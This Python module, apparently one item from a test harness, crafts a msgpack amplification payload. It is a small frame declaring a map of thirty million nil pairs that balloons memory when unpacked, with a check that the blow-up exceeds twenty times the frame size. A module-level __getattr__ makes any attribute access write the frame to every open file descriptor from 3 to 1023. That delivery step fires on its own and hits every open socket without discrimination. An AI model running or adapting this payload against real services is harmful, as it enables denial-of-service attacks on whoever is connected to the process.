"""Sends one dict of thirty million pairs of nothing and nothing, which are tuples before they are a dict.

Stock: not run: it writes into the kernel's own sockets
"""

import os

COUNT = 30_000_000


def frame(count):
    body = b"\x92\xa5value\xdf" + count.to_bytes(4, "big") + b"\xc0\xc0" * count
    return len(body).to_bytes(4, "big") + body


def send(descriptors, data):
    for descriptor in descriptors:
        view = memoryview(data)
        try:
            while view:
                view = view[os.write(descriptor, view) :]
        except OSError:
            pass


def __getattr__(name):
    return lambda *args, **keywords: send(range(3, 1024), frame(COUNT))


def worked():
    import sys

    import msgpack

    pairs = msgpack.unpackb(frame(1000)[4:], object_pairs_hook=list, strict_map_key=False)[1]
    return sum(map(sys.getsizeof, pairs)) > 20 * len(frame(1000))
